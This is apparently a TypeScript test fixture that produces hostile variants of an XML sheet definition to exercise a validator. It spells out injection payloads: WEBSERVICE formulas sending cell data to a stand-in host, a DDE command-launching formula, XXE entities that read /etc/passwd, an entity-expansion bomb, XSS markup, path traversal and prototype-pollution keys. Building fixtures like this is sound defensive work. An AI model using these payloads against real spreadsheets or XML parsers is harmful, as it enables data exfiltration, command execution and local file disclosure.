const outside = 'https://elsewhere.invalid';

/** Tampered versions of a valid definition. Those marked `well` have a valid ID and table. */
export function hostileParts(validXml: string): Readonly<Record<string, string>> {
  const query = (formula: string) =>
    validXml.replace(/<question>.*?<\/question>/s, `<question>${escape(formula)}</question>`);
  const attribute = (name: string, value: string) =>
    validXml.replace(new RegExp(` ${name}="[^"]*"`), ` ${name}="${escape(value)}"`);
  const put = (more: string) => validXml.replace('</block>', `${more}</block>`);
  const document = (type: string, text = '&a;') =>
    `<!DOCTYPE block ${type}>${query('=').replace('=</question>', `=${text}</question>`)}`;
  return {
    'a question that calls the web': query(`=WEBSERVICE("${outside}/?"&A1)`),
    'a question that is a link': query(`=HYPERLINK("${outside}","Open")`),
    'a question that starts a program': query(`=cmd|' /C calc'!A0`),
    'a question with another function inside': query(`=IDS.POSITIONS(WEBSERVICE("${outside}"),"last")`),
    'a question with something behind it': query(`=IDS.POSITIONS(1,"last")&WEBSERVICE("${outside}")`),
    'a question about cells of another file': query(`=IDS.POSITIONS('${outside}/[book.xlsx]Sheet1'!A1,"last")`),
    'a question about a shared file': query(`=IDS.POSITIONS('\\\\elsewhere.invalid\\share\\[book.xlsx]S'!A1,"last")`),
    'a question with a way up in it': query('=IDS.QUERY("../../../elsewhere?x=","top=1")'),
    'a question with a whole address in it': query(`=IDS.QUERY("${outside}/v2/odata/Positions","top=1")`),
    'a question with an address for its filter': query(`=IDS.QUERY("Positions","filter=1 eq 1&$apply=${outside}")`),
    'a question for a resource elsewhere': query(`=IDS.V1("//elsewhere.invalid/v1/Positions",1,"last")`),
    'a document that reads its own description': query('=IDS.GRAPHQL("{ __schema { types { name } } }")'),
    'a document that changes something': query('=IDS.GRAPHQL("mutation { deleteAll { id } }")'),
    'a question of 8,000 characters': query(`=IDS.POSITIONS(1,"last","${'Quantity;'.repeat(900)}")`),
    'a question of nothing': query('='),
    'a question nested 3,000 deep': query(`=${'('.repeat(3_000)}`),
    'a service and a token of its own': put(`<service>${outside}</service><token>eyJhbGciOiJub25lIn0.e30.x</token>`),
    'a service among its attributes': validXml.replace('<block ', `<block service="${outside}" base="${outside}" `),
    'a base address for its XML': validXml.replace('<block ', `<block xml:base="${outside}/" `),
    'a script in it': put('<script xmlns="http://www.w3.org/1999/xhtml">globalThis.hacked = true</script>'),
    'a stylesheet and an inclusion': `<?xml-stylesheet href="${outside}/x.xsl"?>${put(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${outside}"/>`)}`,
    'a schema to be fetched': validXml.replace(
      '<block ',
      `<block xmlns:i="http://www.w3.org/2001/XMLSchema-instance" i:schemaLocation="x ${outside}/x.xsd" `,
    ),
    'markup in the name of a column': attribute('header', '<img src=x onerror=alert(1)>'),
    'a formula in the name of a column': attribute('header', `=HYPERLINK("${outside}","Quantity")`),
    'a formula in the name of a person': attribute('by', `=WEBSERVICE("${outside}")`),
    'a formula for a hash': attribute('hash', '=1+1'),
    'a name that every object has': attribute('header', '__proto__'),
    'a column of an unknown kind': attribute('kind', 'script'),
    'a time without end': attribute('fetchedAt', '1e999'),
    'a time after all times': attribute('fetchedAt', '9e15'),
    'rows below zero': attribute('rows', '-5'),
    'a process date that is none': attribute('asOf', '2026-02-31'),
    'an id that is a path': attribute('id', '../../x'),
    'a writing that never ends': put('<writing since="99999999999999" session="other" by="=1+1"/>'),
    'a note outside the sheet': put('<note sheet="=1+1" row="1048576" column="0" rows="1" columns="1"/>'),
    'a note on the whole sheet': put('<note sheet="Sheet1" row="0" column="0" rows="1048575" columns="16000"/>'),
    'a key without its column': put('<key>Other</key>'),
    'a version from the future': attribute('version', '99'),
    'a version that is none': attribute('version', '-1'),
    'half of it': validXml.slice(0, validXml.length / 2),
    'a megabyte of it': put(`<!--${'x'.repeat(1_000_000)}-->`),
    '3,000 columns': put(
      Array.from({ length: 3_000 }, (_, index) => `<column name="c${index}" kind="text" header="c${index}"/>`).join(''),
    ),
    'elements nested 10,000 deep': put(`${'<a>'.repeat(10_000)}${'</a>'.repeat(10_000)}`),
    'an entity': document('[<!ENTITY a "IDS.POSITIONS(1)">]'),
    'entities that multiply': document(
      `[<!ENTITY a "aaaaaaaaaa"><!ENTITY b "${'&a;'.repeat(10)}"><!ENTITY c "${'&b;'.repeat(10)}"><!ENTITY d "${'&c;'.repeat(10)}">]`,
      '&d;',
    ),
    'an entity from elsewhere': document(`[<!ENTITY a SYSTEM "${outside}/a">]`),
    'a type from elsewhere': document(`SYSTEM "${outside}/block.dtd"`, ''),
    'a file of this computer': document('[<!ENTITY a SYSTEM "file:///etc/passwd">]'),
  };
}

function escape(text: string): string {
  return text.replace(/[&<>"]/g, (sign) => `&#${sign.charCodeAt(0)};`);
}
